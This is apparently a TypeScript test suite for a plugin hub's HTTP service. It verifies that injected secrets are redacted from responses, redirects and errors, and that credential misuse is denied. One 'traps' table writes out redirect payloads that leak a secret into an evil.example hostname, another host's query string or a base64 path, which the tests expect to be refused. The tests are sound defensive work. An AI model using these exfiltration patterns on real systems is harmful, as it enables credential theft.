import { once } from 'node:events';
import { createServer } from 'node:https';
import { inspect } from 'node:util';
import { gzipSync } from 'node:zlib';
import { createBroker, createBus } from '@runtime-hub/kernel';
import { pluginId, type AuditRecord, type HubEvent } from '@runtime-hub/plugin-sdk/contract';
import { describe, expect, test } from 'vitest';
import { createHttpService } from '../../../studio/server/services/http/http-service.ts';
import { systemClock, systemIds } from '../../../studio/server/system.ts';
import { installed } from '../../kernel/capability/world.ts';
import { makeCertificate } from '../../studio/server/services/http/certificate.ts';
import {
  PUBLIC,
  caller,
  secretsOf,
  serve,
  serveRaw,
  world,
} from '../../studio/server/services/http/world.ts';

const VALUE = 'hunter2/"Correct&Horse';
const MARK = '[secret key]';
const USE = { $secret: 'key' } as const;

const encodings: Readonly<Record<string, (value: string) => string>> = {
  'as it is': (value) => value,
  'as JSON': (value) => JSON.stringify({ value }),
  'as a URL': (value) => encodeURIComponent(value),
  'as a form': (value) => new URLSearchParams({ value }).toString(),
  'as base64': (value) => Buffer.from(value).toString('base64'),
  'as base64 of a header': (value) => Buffer.from(`user:${value}`).toString('base64'),
  'as base64 for URLs': (value) => Buffer.from(`{"v":"${value}"}`).toString('base64url'),
  'as hex': (value) => Buffer.from(value).toString('hex'),
  'as HTML': (value) => value.replaceAll('&', '&amp;').replaceAll('"', '&#34;'),
};

describe('a server that sends a secret back does not show it to the plugin', () => {
  test.each(Object.entries(encodings))('in a body, %s', async (_name, encode) => {
    await using server = await serve((request, response) => {
      const value = String(request.headers['x-key']);
      response.setHeader('content-encoding', 'gzip');
      response.end(gzipSync(`<${encode(value)}>`));
    });
    const { request, kept } = world({ secrets: secretsOf({ key: VALUE }) });
    const answer = await request({ url: server.url, headers: { 'x-key': USE } });
    expect(answer.text).toContain(MARK);
    await request({ url: server.url, headers: { 'x-key': USE }, keep: 'blob' });
    for (const text of [answer.text, kept[0]?.bytes.toString()]) {
      expect(text).toContain(MARK);
      expect(text).not.toContain(encode(VALUE));
    }
    expect(server.seen[0]?.headers['x-key']).toBe(VALUE);
  });

  test('in a header’s value, its name, or the media type of a blob', async () => {
    const value = 'AbCdEfGh12345678';
    await using server = await serve((request, response) => {
      const echo = String(request.headers['x-key']);
      response.writeHead(200, { 'x-echo': echo, [echo]: '1', 'content-type': `text/${echo}` });
      response.end();
    });
    const { request } = world({ secrets: secretsOf({ key: value }) });
    for (const keep of ['text', 'blob'] as const) {
      const answer = await request({ url: server.url, keep, headers: { 'x-key': USE } });
      expect(answer.headers['x-echo']).toBe(MARK);
      expect(JSON.stringify(answer).toLowerCase()).not.toContain(value.toLowerCase());
    }
  });

  test('in the address it redirects to', async () => {
    await using server = await serve((request, response) => {
      const key = encodeURIComponent(String(request.headers['x-key']));
      if (request.url === '/') response.writeHead(302, { location: `/next?key=${key}` }).end();
      else response.end('there');
    });
    const { request } = world({ secrets: secretsOf({ key: VALUE }), grants: ['*'] });
    const answer = await request({ url: server.url, headers: { 'x-key': USE } });
    expect(answer).toMatchObject({ text: 'there', url: `${server.url}/next?key=${MARK}` });
    const stopped = await request({
      url: server.url,
      headers: { 'x-key': USE },
      redirects: 'stop',
    });
    expect(stopped.headers['location']).toBe(`/next?key=${MARK}`);
  });

  test('in an answer to a later request that used no secret', async () => {
    await using server = await serve((_request, response) => response.end(`before ${VALUE} after`));
    const { request } = world({ secrets: secretsOf({ key: VALUE }) });
    await request({ url: server.url, headers: { 'x-key': USE } });
    expect(await request({ url: server.url })).toMatchObject({ text: `before ${MARK} after` });
  });

  test('in pieces of the body that arrive one by one', async () => {
    await using server = await serveRaw((socket) => {
      socket.write(`HTTP/1.1 200 OK\r\nContent-Length: ${String(VALUE.length)}\r\n\r\n`);
      const pieces = [...Buffer.from(VALUE)];
      const next = (): void => {
        const byte = pieces.shift();
        if (byte !== undefined) socket.write(Buffer.from([byte]), () => void setImmediate(next));
      };
      socket.once('data', next);
    });
    const { request } = world({ secrets: secretsOf({ key: VALUE }) });
    const answer = await request({ url: server.url, headers: { 'x-key': USE } });
    expect(answer.text).toBe(MARK);
  });
});

describe('a server that answers a secret with a trap does not get it further', () => {
  const traps: Readonly<Record<string, (value: string, port: number) => string>> = {
    'in the query of another host': (value, port) => `http://127.0.0.2:${String(port)}/?${value}`,
    'as the name of another host': (value) => `http://${value}.evil.example/`,
    'in capitals, as the name of a host': (value) => `http://${value.toUpperCase()}.evil.example/`,
    'in base64': (value, port) =>
      `http://127.0.0.2:${String(port)}/${Buffer.from(`x${value}y`).toString('base64url')}`,
  };
  test.each(Object.entries(traps))('%s', async (name, trap) => {
    const value = name.includes('capitals') ? 'LOUDSECRET99' : 'quietsecret99';
    await using server = await serve((request, response) => {
      response.writeHead(302, { location: trap(String(request.headers['x-key']), server.port) });
      response.end();
    });
    const spied = world({ secrets: secretsOf({ key: value }), grants: ['*'] });
    const answer = spied.request({ url: server.url, headers: { 'x-key': USE } });
    await expect(answer).rejects.toMatchObject({ code: 'NET_RESPONSE_REFUSED' });
    await expect(answer).rejects.not.toThrow(new RegExp(value, 'iu'));
    expect(spied.asked).toEqual([]);
    expect(server.seen).toHaveLength(1);
  });

  test('by breaking HTTP so that an error would quote it', async () => {
    await using server = await serveRaw((socket) => {
      socket.once('data', () => socket.end(`HTTP/1.1 200 OK\r\n${VALUE}\r\n: ${VALUE}\r\n\r\n`));
    });
    const { request } = world({ secrets: secretsOf({ key: VALUE }) });
    const answer = request({ url: server.url, headers: { 'x-key': USE } });
    const error: unknown = await answer.catch((it: unknown) => it);
    expect(error).toMatchObject({ code: 'NET_RESPONSE_REFUSED' });
    expect(inspect(error, { depth: 9, showHidden: true })).not.toContain('hunter2');
  });
});

test('Basic credentials are made in the hub', async () => {
  await using server = await serve((request, response) => {
    response.end(String(request.headers.authorization));
  });
  const { request } = world({ secrets: secretsOf({ key: 'us:pässword' }) });
  const headers = { authorization: { ...USE, prefix: 'Basic ', form: 'basic' } } as const;
  const answer = await request({ url: server.url, headers });
  const sent = Buffer.from('us:pässword').toString('base64');
  expect(server.seen[0]?.headers.authorization).toBe(`Basic ${sent}`);
  expect(answer.text).toBe(`Basic ${MARK}`);
});

test('a secret nobody set is named, and nothing is sent', async () => {
  const { request, connections } = world();
  const answer = request({ url: 'http://127.0.0.1:9/', headers: { 'x-key': USE } });
  await expect(answer).rejects.toMatchObject({ code: 'SECRET_NOT_FOUND' });
  expect(connections).toEqual([]);
});

test('a request to an address that is refused sends no secret', async () => {
  const resolve = async () => await Promise.resolve([PUBLIC, '10.0.0.1']);
  const { request, connections } = world({ resolve, secrets: secretsOf({ key: VALUE }) });
  const answer = request({ url: 'https://api.example/', headers: { 'x-key': USE } });
  await expect(answer).rejects.toMatchObject({ code: 'NET_ADDRESS_REFUSED' });
  expect(connections).toEqual([]);
});

test('a server whose certificate is for another host, or nobody’s, gets no secret', async () => {
  const pem = makeCertificate('other.example');
  const seen: unknown[] = [];
  const server = createServer(pem, (request, response) => {
    seen.push(request.headers);
    response.end('ok');
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  try {
    const address = server.address();
    const port = typeof address === 'object' && address !== null ? address.port : 0;
    const resolve = async () => await Promise.resolve([PUBLIC]);
    const ports = { resolve, port, secrets: secretsOf({ key: VALUE }) };
    for (const authorities of [[], [pem.cert]]) {
      const { request } = world({ ...ports, authorities });
      const answer = request({ url: 'https://api.example/', headers: { 'x-key': USE } });
      await expect(answer).rejects.toMatchObject({ code: 'NET_UNREACHABLE' });
    }
    const { request } = world({ ...ports, authorities: [pem.cert] });
    const numbered = request({ url: 'https://127.0.0.1/', headers: { 'x-key': USE } });
    await expect(numbered).rejects.toMatchObject({ code: 'NET_UNREACHABLE' });
    expect(seen).toEqual([]);
    const answer = await request({ url: 'https://other.example/', headers: { 'x-key': USE } });
    expect(answer).toMatchObject({ text: 'ok' });
    expect(seen).toHaveLength(1);
  } finally {
    server.closeAllConnections();
    await new Promise((resolve) => server.close(resolve));
  }
});

describe('through the broker', () => {
  const plugin = pluginId('acme/http');

  function gate(targets: readonly (readonly ['net.http' | 'secrets.use', string])[]) {
    const events: HubEvent[] = [];
    const audit: AuditRecord[] = [];
    const bus = createBus({ clock: systemClock });
    bus.on((event) => void events.push(event));
    const permissions = targets.map(([capability, target]) => ({
      capability,
      target,
      reason: 'r',
    }));
    const known = installed(plugin, permissions);
    const broker = createBroker({
      clock: systemClock,
      ids: systemIds,
      plugins: { get: () => known, list: () => [known] },
      grants: { list: () => [], put: () => {} },
      audit: { append: (record) => void audit.push(record) },
      events: bus,
      services: [
        createHttpService({
          clock: systemClock,
          secrets: secretsOf({ key: VALUE }),
          networks: ['127.0.0.0/8'],
          keepBlob: async () => await Promise.reject(new Error('unused')),
          readBlob: async () => await Promise.reject(new Error('unused')),
        }),
      ],
      provider: { serve: async () => await Promise.reject(new Error('unused')) },
      autoGrant: [],
    });
    broker.request(plugin);
    broker.approve({ plugin, by: 'test' });
    const ask = async (url: string, headers = {}) =>
      await broker.call(
        { ...caller, plugin },
        { capability: 'net.http', operation: 'request', args: { method: 'POST', url, headers } },
        new AbortController().signal,
      );
    return { broker, ask, seen: () => inspect([events, audit], { depth: 9 }) };
  }

  test('a plugin that posts a credential to its own host is denied, though it may use both', async () => {
    await using own = await serve((_request, response) => response.end('thanks'));
    await using api = await serve((request, response) =>
      response.end(String(request.headers['x-key'])),
    );
    const [ownHost, apiHost] = [own, api].map(({ port }) => `http://127.0.0.1:${String(port)}`);
    const { ask, seen } = gate([
      ['net.http', String(ownHost)],
      ['net.http', String(apiHost)],
      ['secrets.use', `key@${String(apiHost)}`],
    ]);
    const stolen = ask(own.url, { 'x-key': USE });
    await expect(stolen).rejects.toMatchObject({
      code: 'CAPABILITY_DENIED',
      data: { need: `secrets.use:key@${String(ownHost)}` },
    });
    expect(own.seen).toEqual([]);
    expect(await ask(api.url, { 'x-key': USE })).toMatchObject({ text: MARK });
    expect(api.seen[0]?.headers['x-key']).toBe(VALUE);
    expect(seen()).toContain(`secrets.use:key@${String(ownHost)}`);
    expect(seen()).not.toContain('hunter2');
  });

  test.each(['net.http', 'secrets.use'] as const)(
    'a revoked grant for %s ends the request that is under way within 250 ms',
    async (capability) => {
      await using server = await serveRaw(() => {});
      const host = `http://127.0.0.1:${String(server.port)}`;
      const { ask, broker } = gate([
        ['net.http', host],
        ['secrets.use', `key@${host}`],
      ]);
      const answer = ask(server.url, { 'x-key': USE });
      const refused = expect(answer).rejects.toMatchObject({ code: 'CAPABILITY_REVOKED' });
      while (server.opened.length === 0) await new Promise((resolve) => setImmediate(resolve));
      const revokedAt = performance.now();
      broker.revoke({ plugin, capability, by: 'test' });
      await refused;
      await server.allClosed();
      expect(performance.now() - revokedAt).toBeLessThan(250);
    },
  );
});
